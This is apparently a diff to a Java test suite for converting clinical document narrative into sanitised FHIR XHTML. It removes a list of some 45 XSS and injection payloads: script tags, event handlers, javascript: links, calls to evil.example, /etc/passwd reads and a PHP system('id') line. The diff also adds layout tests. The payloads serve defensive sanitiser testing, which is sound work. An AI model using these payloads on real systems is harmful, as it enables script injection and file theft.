@@ -5,7 +5,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
-import java.util.Set;
 import java.util.stream.Collectors;
 import net.jqwik.api.Arbitraries;
 import net.jqwik.api.Arbitrary;
@@ -13,6 +12,7 @@ import net.jqwik.api.Combinators;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import net.jqwik.api.Provide;
+import org.cdexbridge.attack.Harmless;
 import org.cdexbridge.mapping.SourceNode;
 import org.hl7.fhir.r4.model.Composition;
 import org.hl7.fhir.utilities.xhtml.NodeType;
@@ -21,43 +21,18 @@ import org.hl7.fhir.utilities.xhtml.XhtmlParser;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
-import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class NarrativeTest {
-    private static final Set<String> ELEMENTS = Set.of(
-            "div",
-            "span",
-            "p",
-            "ul",
-            "ol",
-            "li",
-            "a",
-            "img",
-            "br",
-            "sub",
-            "sup",
-            "table",
-            "caption",
-            "thead",
-            "tbody",
-            "tfoot",
-            "tr",
-            "td",
-            "th",
-            "colgroup",
-            "col");
-    private static final Set<String> ATTRIBUTES = Set.of(
-            "xmlns", "id", "class", "style", "href", "src", "alt", "colspan", "rowspan", "align", "valign", "span",
-            "abbr", "scope");
-
     private static XhtmlNode div(String narrative) {
         var root = Rules.evaluate(
                         "<ClinicalDocument xmlns=\"urn:hl7-org:v3\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\">"
                                 + "<text>" + narrative + "</text>"
                                 + "<observationMedia ID=\"pic\"><value mediaType=\"image/png\" representation=\"B64\">iVBORw0K</value>"
                                 + "</observationMedia><observationMedia ID=\"svg\"><value mediaType=\"image/svg+xml\""
-                                + " representation=\"B64\">PHN2Zy8+</value></observationMedia></ClinicalDocument>",
+                                + " representation=\"B64\">PHN2Zy8+</value></observationMedia><observationMedia ID=\"far\">"
+                                + "<value mediaType=\"image/png\"><reference value=\"https://pictures.example/1.png\"/></value>"
+                                + "</observationMedia></ClinicalDocument>",
                         "")
                 .root();
         SourceNode text = root.child("text");
@@ -68,28 +43,6 @@ class NarrativeTest {
         List<XhtmlNode> all = new ArrayList<>(List.of(node));
         node.getChildNodes().forEach(child -> all.addAll(all(child)));
         return all;
-    }
-
-    private static void assertHarmless(XhtmlNode div) {
-        for (XhtmlNode node : all(div)) {
-            if (node.getNodeType() == NodeType.Element) {
-                assertThat(ELEMENTS).contains(node.getName());
-                node.getAttributes().forEach(NarrativeTest::assertHarmless);
-            } else {
-                assertThat(node.getNodeType()).isEqualTo(NodeType.Text);
-            }
-        }
-    }
-
-    private static void assertHarmless(String attribute, String value) {
-        assertThat(ATTRIBUTES).contains(attribute);
-        switch (attribute) {
-            case "href" -> assertThat(value).matches("(?i)(https?://|mailto:|#)[^\\s\"'<>]*");
-            case "src" -> assertThat(value).matches("data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]*");
-            case "style" ->
-                assertThat(value).matches("((font-weight: bold|font-style: italic|text-decoration: underline)(; )?)+");
-            default -> assertThat(value).doesNotContain("<", ">", "\"", "javascript");
-        }
     }
 
     /** All text, in order, without what {@code allText} adds for readers. */
@@ -108,68 +61,10 @@ class NarrativeTest {
         return new org.hl7.fhir.utilities.xhtml.XhtmlComposer(true).compose(div);
     }
 
-    static List<String> attacks() {
-        return List.of(
-                "<script>alert(1)</script>",
-                "<SCRIPT src='http://evil.example/x.js'/>",
-                "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
-                "<img src='x' onerror='alert(1)'/>",
-                "<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>",
-                "<svg onload='alert(1)'/>",
-                "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><a href='javascript:alert(1)'>x</a></svg>",
-                "<math><mtext><style>x</style></mtext></math>",
-                "<iframe src='http://evil.example'/>",
-                "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
-                "<object data='http://evil.example/x.swf'/>",
-                "<embed src='javascript:alert(1)'/>",
-                "<form action='http://evil.example'><input name='a'/><button formaction='javascript:alert(1)'>x</button></form>",
-                "<meta http-equiv='refresh' content='0;url=http://evil.example'/>",
-                "<link rel='stylesheet' href='http://evil.example/x.css'/>",
-                "<base href='http://evil.example/'/>",
-                "<style>body{background:url(javascript:alert(1))}</style>",
-                "<content onclick='alert(1)'>x</content>",
-                "<content onmouseover='alert(1)' style='x:expression(alert(1))'>x</content>",
-                "<content styleCode='Bold\" onclick=\"alert(1)'>x</content>",
-                "<content styleCode='x:expression(alert(1))'>x</content>",
-                "<content ID='a\" onclick=\"alert(1)'>x</content>",
-                "<content class='x' style='background:url(http://evil.example)'>x</content>",
-                "<linkHtml href='javascript:alert(1)'>x</linkHtml>",
-                "<linkHtml href='JaVaScRiPt:alert(1)'>x</linkHtml>",
-                "<linkHtml href=' javascript:alert(1)'>x</linkHtml>",
-                "<linkHtml href='java&#10;script:alert(1)'>x</linkHtml>",
-                "<linkHtml href='&#1;javascript:alert(1)'>x</linkHtml>".replace("&#1;", "&#9;"),
-                "<linkHtml href='vbscript:msgbox(1)'>x</linkHtml>",
-                "<linkHtml href='data:text/html;base64,PHNjcmlwdD4='>x</linkHtml>",
-                "<linkHtml href='file:///etc/passwd'>x</linkHtml>",
-                "<linkHtml href='//evil.example'>x</linkHtml>",
-                "<linkHtml href='http://evil.example/\" onclick=\"alert(1)'>x</linkHtml>",
-                "<linkHtml xlink:href='javascript:alert(1)' xmlns:xlink='http://www.w3.org/1999/xlink'>x</linkHtml>",
-                "<renderMultiMedia referencedObject='svg'/>",
-                "<renderMultiMedia referencedObject='http://evil.example/pixel.gif'/>",
-                "<table background='javascript:alert(1)'><tbody><tr><td background='x' onclick='alert(1)'>x</td></tr></tbody></table>",
-                "<table><tbody><tr><td colspan='2\" onclick=\"alert(1)'>x</td></tr></tbody></table>",
-                "<paragraph>&lt;script&gt;alert(1)&lt;/script&gt;</paragraph>",
-                "<paragraph><![CDATA[<script>alert(1)</script>]]></paragraph>",
-                "<!--<script>alert(1)</script>--><paragraph>x</paragraph>",
-                "<?php system('id'); ?><paragraph>x</paragraph>",
-                "<footnoteRef IDREF='javascript:alert(1)'/>",
-                "<xsl:value-of select='document(\"file:///etc/passwd\")' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>");
-    }
-
-    @ParameterizedTest
-    @MethodSource("attacks")
-    void anAttackComesOutHarmless(String attack) throws Exception {
-        XhtmlNode div = div(attack);
-        assertHarmless(div);
-        String written = written(div);
-        assertThat(written).doesNotContainIgnoringCase("<script", "<iframe", "<svg", "<form", "<style");
-        assertHarmless(new XhtmlParser().parseFragment(written));
-    }
-
     @Property(tries = 300)
     void wordsAreNeverLostWhateverTheMarkup(@ForAll("markup") String markup) throws Exception {
         XhtmlNode div = div(markup);
-        assertHarmless(div);
+        Harmless.check(div);
         assertThat(words(text(div))).isEqualTo(words(markup.replaceAll("<[^>]*>", "")));
         assertThat(words(text(new XhtmlParser().parseFragment(written(div))))).isEqualTo(words(text(div)));
     }
@@ -199,6 +94,9 @@ class NarrativeTest {
                 "div",
                 "unheardOf",
                 "br",
+                "colgroup",
+                "col",
+                "tfoot",
                 "reference",
                 "title");
         return Arbitraries.recursive(
@@ -264,6 +162,112 @@ class NarrativeTest {
                         .get(0)
                         .getAttribute("style"))
                 .isEqualTo(style);
+    }
+
+    @Test
+    void aTableInAParagraphStandsWhereHtmlAllowsIt() {
+        assertThat(div("<paragraph>a<table><tbody><tr><td>b</td></tr></tbody></table></paragraph>")
+                        .getChildNodes())
+                .extracting(XhtmlNode::getName)
+                .containsExactly("div");
+    }
+
+    @Test
+    void whatIsNoPartOfATableStandsInACell() {
+        XhtmlNode table = div("<table>a<tr>b<td>c</td></tr><paragraph>d</paragraph></table>")
+                .getChildNodes()
+                .get(0);
+        assertThat(table.getChildNodes()).extracting(XhtmlNode::getName).containsExactly("tr", "tr", "tr");
+        assertThat(table.getChildNodes().get(1).getChildNodes())
+                .extracting(XhtmlNode::getName)
+                .containsExactly("td", "td");
+    }
+
+    @Test
+    void aPartOfATableOutsideOfOneIsItsWords() {
+        XhtmlNode div = div("<tr><td>a</td></tr><td>b</td><item>c</item>");
+        assertThat(all(div)).extracting(XhtmlNode::getName).doesNotContain("tr", "td", "li");
+        assertThat(text(div)).isEqualTo("abc");
+    }
+
+    @Test
+    void aFootnoteIsLinkedFromItsMark() {
+        XhtmlNode div = div("a<footnoteRef IDREF='f 1'/> <footnote ID='f 1'>b</footnote>");
+        assertThat(div.getChildNodes().get(1).getAttribute("href")).isEqualTo("#f_1");
+        assertThat(div.getChildNodes().get(1).allText()).isEqualTo("*");
+        assertThat(div.getChildNodes().get(3).getAttribute("id")).isEqualTo("f_1");
+    }
+
+    @Test
+    void anInternalLinkLeadsToWhereItLed() {
+        XhtmlNode div = div("<linkHtml href='#pr&#252;f/1'>a</linkHtml><content ID='pr&#252;f/1'>b</content>");
+        assertThat(div.getChildNodes().get(0).getAttribute("href"))
+                .isEqualTo("#" + div.getChildNodes().get(1).getAttribute("id"));
+    }
+
+    @Test
+    void whatWasDeletedIsStruckOut() {
+        XhtmlNode deleted = div("<content revised='delete' styleCode='Bold'>a</content>")
+                .getChildNodes()
+                .get(0);
+        assertThat(deleted.getAttribute("style")).contains("line-through").contains("bold");
+        assertThat(deleted.getAttribute("class")).isEqualTo("revised-delete");
+    }
+
+    @ParameterizedTest
+    @CsvSource({"LittleRoman,lower-roman", "BigAlpha,upper-alpha", "Square,square", "Arabic,decimal"})
+    void aListIsNumberedAsItsStyleSays(String styleCode, String css) {
+        assertThat(div("<list styleCode='" + styleCode + "'><item>a</item></list>")
+                        .getChildNodes()
+                        .get(0)
+                        .getAttribute("style"))
+                .isEqualTo("list-style-type: " + css);
+    }
+
+    @Test
+    void aPictureElsewhereIsALink() {
+        XhtmlNode link = div("<renderMultiMedia referencedObject='far'/>").getChildNodes().get(0);
+        assertThat(link.getName()).isEqualTo("a");
+        assertThat(link.getAttribute("href")).isEqualTo("https://pictures.example/1.png");
+    }
+
+    @Test
+    void severalPicturesAreShownOneAfterTheOther() {
+        assertThat(div("<renderMultiMedia referencedObject='pic far'><caption>c</caption></renderMultiMedia>")
+                        .getChildNodes())
+                .extracting(XhtmlNode::getName)
+                .containsExactly("img", "a", "span");
+    }
+
+    @Test
+    void theRowOfAnEntryKeepsItsTablesCaptionAndHead() {
+        XhtmlNode table = excerpt("<table><caption>Labs</caption><thead><tr><th>Test</th><th>Value</th></tr></thead>"
+                + "<tbody><tr><td>x</td><td>1</td></tr><tr ID='it'><td>y</td><td>2</td></tr></tbody></table>");
+        assertThat(text(table)).isEqualTo("LabsTestValuey2");
+        assertThat(table.getChildNodes()).extracting(XhtmlNode::getName).containsExactly("caption", "thead", "tbody");
+    }
+
+    @Test
+    void theCellOfAnEntryKeepsTheHeadOfItsColumn() {
+        XhtmlNode table = excerpt("<table><thead><tr><th colspan='2'>Test</th><th>Value</th></tr></thead>"
+                + "<tbody><tr><td>x</td><td>y</td><td ID='it'>1</td></tr></tbody></table>");
+        assertThat(text(table)).isEqualTo("Value1");
+    }
+
+    @Test
+    void theItemOfAnEntryKeepsItsKindOfList() {
+        XhtmlNode list = excerpt("<list listType='ordered'><item>x</item><item ID='it'>y</item></list>");
+        assertThat(list.getName()).isEqualTo("ol");
+        assertThat(text(list)).isEqualTo("y");
+    }
+
+    private static XhtmlNode excerpt(String narrative) {
+        var root = Rules.evaluate("<text xmlns='urn:hl7-org:v3'>" + narrative + "</text>", "")
+                .root();
+        return new Excerpt(new StrucDoc(root.info()))
+                .of(CcdaDialect.narrativeElement(root.info(), "it"))
+                .getChildNodes()
+                .get(0);
     }
 
     @Test
